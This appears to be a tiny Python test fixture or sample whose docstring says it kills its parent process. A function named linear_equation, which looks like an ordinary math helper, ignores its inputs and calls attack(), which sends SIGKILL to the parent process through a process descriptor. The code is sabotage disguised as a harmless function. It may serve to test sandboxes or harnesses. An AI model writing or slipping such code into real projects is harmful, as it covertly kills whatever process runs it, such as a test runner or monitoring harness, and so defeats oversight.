"""Kills its parent through a descriptor of the process."""

import os
import signal


def attack():
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)


def linear_equation(x, w, b):
    return attack()
